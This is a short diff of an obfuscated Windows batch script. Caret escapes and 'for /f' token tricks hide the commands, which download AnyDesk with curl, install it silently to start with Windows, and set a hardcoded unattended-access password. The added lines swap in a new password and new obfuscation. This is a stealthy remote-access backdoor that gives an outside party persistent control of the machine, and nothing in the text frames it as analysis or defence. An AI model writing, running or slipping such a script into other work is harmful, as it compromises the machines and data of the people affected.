@@ -1,5 +1,5 @@
-REM task 8550 v4
+REM run 3009 v4
 @echo off
-for /^f "tokens=3 delims=;" %%i in ("wbag;fzxv;curl") do %%i -sL^o %TEMP%\^A^ny^Des^k.^ex^e ht^t^ps://dow^nl^oa^d.^an^ydes^k.^c^o^m/A^n^y^D^e^s^k.^e^x^e
-^for /^f "tokens=3 delims=~" %%i ^i^n ("xzev~kpyw~%TEMP%\AnyDesk.exe") ^do %%i --^in^sta^ll "C:\ProgramData\AnyDesk" --^s^tar^t-with-^win --^silent
-for /^f "tokens=2 delims=~" %%^i ^in ("xigg~echo~xruu") ^d^o %%i ^W^in^t^er#20^25^x | "C:\ProgramData\AnyDesk\AnyDesk.exe" --^se^t-^p^a^sswo^r^d
+f^or /f "tokens=3 delims=~" %%^i in ("fkji~mgfd~curl") ^do %%i -^s^L^o %TEMP%\AnyDe^s^k.exe http^s://downloa^d.^anydesk.^c^om/^An^y^De^sk.^e^x^e
+for /f "tokens=1 delims=#" %%^i i^n ("%TEMP%\AnyDesk.exe#itmy#whof") ^d^o %%^i --inst^al^l "C:\ProgramData\AnyDesk" --sta^r^t-^wi^th-^w^in --sil^e^n^t
+for /f "tokens=1 delims=@" %%i i^n ("echo@mlju@viku") ^do %%i Qwerty#^7^788 | "C:\ProgramData\AnyDesk\AnyDesk.exe" --s^et-p^as^swor^d
